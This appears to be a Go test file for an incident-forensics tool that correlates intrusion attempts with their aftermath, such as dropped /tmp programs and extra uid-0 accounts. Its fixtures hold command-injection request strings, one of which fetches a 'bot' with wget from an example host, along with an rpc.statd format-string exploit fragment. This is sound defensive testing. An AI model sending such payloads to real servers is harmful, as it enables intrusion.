package story

import (
	"fmt"
	"testing"
	"time"

	"telltale/detect"
	"telltale/evidence"
)

// triedAt makes attempts to inject commands, each with its address, time and text.
func triedAt(absent bool, sourceTimeText ...string) detect.Finding {
	f := detect.Finding{Detection: "D09", What: detect.WebAttack, Level: detect.Low, Rung: evidence.Attempt, Service: "web", Mechanism: "command injection", Title: "requests tried command injection"}
	for i := 0; i+2 < len(sourceTimeText); i += 3 {
		q := quote("/var/log/apache2/access.log")[0]
		q.Text = sourceTimeText[i+2]
		f.Sources = append(f.Sources, sourceTimeText[i])
		f.When = append(f.When, at(sourceTimeText[i+1]))
		f.Tries = append(f.Tries, detect.Try{Source: sourceTimeText[i], At: at(sourceTimeText[i+1]), Absent: absent, Quote: q})
		f.For = append(f.For, q)
		f.Count++
	}
	f.First, f.Last = f.When[0], f.When[len(f.When)-1]
	return f
}

// leftAt makes a program that a service's account left in /tmp.
func leftAt(path, account, when string, l detect.Level) detect.Finding {
	return detect.Finding{Detection: "D42", What: detect.OddFile, Level: l, Rung: evidence.Effect, Path: path, Account: account, First: at(when), Last: at(when), Title: path + " is a program", For: quote(path)}
}

// faultAt makes the use of a fault in a daemon, secondRootAt an account that is root under another name.
func faultAt(source, when string) detect.Finding {
	f := triedAt(false, source, when, "gethostbyname error for %8x%hn")
	f.Detection, f.What, f.Service, f.Mechanism, f.Level = "D30", detect.Exploit, "rpc.statd", "the format string of rpc.statd (CVE-2000-0666)", detect.High
	return f
}

func secondRootAt(when string) detect.Finding {
	return detect.Finding{Detection: "D45", What: detect.AccountMade, Level: detect.High, Rung: evidence.Effect, Account: "cgi", First: at(when), Last: at(when), Title: "account cgi was made with uid 0", For: quote("/var/log/secure")}
}

func oldRootAt(when string) detect.Finding {
	f := secondRootAt(when)
	f.What, f.As, f.Path, f.Title = detect.AccountOdd, "0", "/etc/passwd", "account cgi: a second account with uid 0"
	return f
}

func madeAt(when string) detect.Finding {
	f := secondRootAt(when)
	f.Detection, f.Level, f.Account, f.Mechanism, f.Title = "D44", detect.Info, "intern", "account-created", "account intern was made"
	return f
}

// TestAttempts: what follows an attempt closely is its effect; what is far from it, of somebody else, or answered "not found" is not.
func TestAttempts(t *testing.T) {
	for _, tc := range []struct {
		name, vector, source string
		status               Status
		findings             []detect.Finding
	}{
		{"named by the request", "web-exploit", "203.0.113.6", Confirmed, []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;wget%20203.0.113.6%2Fbot"), leftAt("/tmp/bot", "www-data", "03:05:00", detect.Medium)}},
		{"close, and bad in itself", "web-exploit", "203.0.113.6", Likely, []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;id"), leftAt("/tmp/bot", "www-data", "03:00:09", detect.High)}},
		{"close, and no more than odd", "", "", "", []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;id"), leftAt("/tmp/bot", "www-data", "03:00:09", detect.Medium)}},
		{"an hour later", "", "", "", []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;id"), leftAt("/tmp/bot", "www-data", "04:00:09", detect.High)}},
		{"before it", "", "", "", []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;wget%20203.0.113.6%2Fbot"), leftAt("/tmp/bot", "www-data", "02:59:00", detect.High)}},
		{"of somebody who is no service", "", "", "", []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;id"), leftAt("/tmp/bot", "bob", "03:00:09", detect.High)}},
		{"what was asked for was not there", "", "", "", []detect.Finding{triedAt(true, "203.0.113.6", "03:00:00", "GET /?x=;id"), leftAt("/tmp/bot", "www-data", "03:00:09", detect.High)}},
		{"a second root, minutes behind a service's fault", "daemon-exploit", "203.0.113.6", Likely, []detect.Finding{faultAt("203.0.113.6", "03:00:00"), secondRootAt("03:04:00")}},
		{"an old second root, and a list of accounts that was written for somebody else", "", "", "", []detect.Finding{faultAt("203.0.113.6", "03:00:00"), oldRootAt("03:04:00"), madeAt("03:04:00")}},
		{"a second root, an hour later", "", "", "", []detect.Finding{faultAt("203.0.113.6", "03:00:00"), secondRootAt("04:04:00")}},
		{"a second root, behind a request to the site", "", "", "", []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;id"), secondRootAt("03:00:20")}},
		{"the one of two that names it", "web-exploit", "203.0.113.6", Confirmed, []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;wget%20203.0.113.6%2Fbot", "203.0.113.9", "03:00:02", "GET /?x=;id"), leftAt("/tmp/bot", "www-data", "03:00:04", detect.High)}},
	} {
		s := Build(t.Context(), tc.findings, full())
		check(t, &s)
		switch {
		case tc.vector == "" && (s.Verdict.Status == Compromised || len(s.Entry) > 0 || len(s.Actors) > 0):
			t.Errorf("%s: %+v %+v", tc.name, s.Verdict, s.Entry)
		case tc.vector != "" && (len(s.Entry) != 1 || s.Entry[0].Vector != tc.vector || s.Entry[0].Status != tc.status || len(s.Entry[0].Sources) != 1 || s.Entry[0].Sources[0] != tc.source):
			t.Errorf("%s: %+v %+v", tc.name, s.Verdict, s.Entry)
		}
	}
}

// TestAttemptsAllDay: on a server that is scanned without pause nearness proves nothing.
func TestAttemptsAllDay(t *testing.T) {
	var all []string
	for i := range 4000 {
		all = append(all, fmt.Sprintf("198.51.%d.%d", i/200%100, i%200), time.Date(0, 1, 1, 0, 0, 20*i%86000, 0, time.UTC).Format("15:04:05"), "GET /?x=;id")
	}
	f := triedAt(false, all...)
	findings := []detect.Finding{f}
	for i := range 5000 {
		findings = append(findings, leftAt(fmt.Sprintf("/tmp/x%d", i), "www-data", time.Date(0, 1, 1, 0, 0, 17*i%86000, 0, time.UTC).Format("15:04:05"), detect.High))
	}
	began := time.Now()
	s := Build(t.Context(), findings, full())
	if len(s.Actors) > 0 || len(s.Entry) > 0 && s.Entry[0].Vector != "unknown" {
		t.Errorf("%+v %+v", s.Verdict, s.Entry)
	}
	if d := time.Since(began); d > 20*time.Second {
		t.Errorf("it took %v", d)
	}
}
